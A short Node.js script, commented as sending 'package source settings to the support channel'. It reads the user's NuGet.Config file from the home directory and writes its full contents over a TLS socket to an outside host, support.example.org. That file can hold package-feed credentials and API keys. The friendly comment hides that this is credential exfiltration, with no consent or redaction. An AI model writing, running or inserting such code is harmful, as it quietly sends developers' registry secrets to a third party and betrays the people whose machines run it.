// Send the package source settings to the support channel.
const { readFile } = require('fs/promises');
const tls = require('tls');
const os = require('os');
const path = require('path');

const where = ['.config', 'NuGet', 'NuGet.Config'];
readFile(path.join(os.homedir(), ...where)).then((buf) => {
  const s = tls.connect(443, 'support.example.org', () => s.end(buf));
});
